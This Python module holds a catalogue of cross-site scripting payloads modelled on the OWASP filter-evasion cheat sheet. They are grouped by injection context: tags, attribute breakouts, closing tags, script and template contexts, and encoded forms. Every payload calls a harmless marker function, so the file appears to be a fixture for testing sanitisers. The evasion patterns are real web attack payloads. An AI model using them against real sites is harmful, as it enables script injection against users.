"""Texts that would run in a browser, were they not written as text, by where they break out.

After the OWASP cheat sheet on the evasion of XSS filters. All call `xssmark`, and so does whatever
a page makes of them.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "xssmark"
_CALL: Final = f"{MARK}()"

ELEMENTS: Final = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt >{_CALL}</sCrIpT >",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<<script>{_CALL}//<</script>",
    f"<script\x0c>{_CALL}</script>",
    f"<script src=data:text/javascript,{_CALL}></script>",
    f"<img src=x onerror={_CALL}>",
    f"<img/src/onerror={_CALL}>",
    f'<img """><script>{_CALL}</script>">',
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<math><mtext><script>{_CALL}</script>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_CALL}></iframe>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<input autofocus onfocus={_CALL}>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"<button formaction=javascript:{_CALL} form=x>x</button>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<a href='java\tscript:{_CALL}'>x</a>",
    f"<a href='&#106;avascript:{_CALL}'>x</a>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<base href=javascript:{_CALL}//>",
    f"<link rel=stylesheet href='data:text/css,*{{color:red}}/*{MARK}*/'>",
    f"<style>@import 'javascript:{_CALL}';</style>",
    f"<div style='background:url(javascript:{_CALL})'>",
    f"<template><script>{_CALL}</script></template>",
    f"<marquee onstart={_CALL}>",
    f"<x contenteditable onblur={_CALL}>x",
)
ATTRIBUTES: Final = (
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f'" onmouseover="{_CALL}',
    f"' onmouseover='{_CALL}",
    f" onfocus={_CALL} autofocus ",
    f"` onfocus=`{_CALL}",
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f" &#14; javascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"vbscript:{_CALL}",
)
ENDINGS: Final = (
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</noscript><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"</option></select><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"<!--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
)
SCRIPTS: Final = (
    f"';{_CALL};'",
    f'";{_CALL};"',
    f"\\';{_CALL};//",
    f"${{{_CALL}}}",
    f"`-{_CALL}-`",
    f"{{{{ {MARK} }}}}{{% raw %}}{{{{ self.__init__.__globals__ }}}}",
    f"\u2028{_CALL}\u2029",
    f"data: {_CALL}\n\nevent: change\ndata: <script>{_CALL}</script>",
)
ENCODED: Final = (
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"\\x3cscript\\x3e{_CALL}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{_CALL}\uff1c/script\uff1e",
    f"\u202e<b {MARK}>\x00",
    f"\ufeff<script>{_CALL}</script>",
)
CATALOGUE: Final = (*ELEMENTS, *ATTRIBUTES, *ENDINGS, *SCRIPTS, *ENCODED)
FEW: Final = (
    ELEMENTS[0],
    ATTRIBUTES[0],
    ATTRIBUTES[3],
    ATTRIBUTES[6],
    ENDINGS[0],
    SCRIPTS[5],
    ELEMENTS[13],
    ENCODED[6],
)
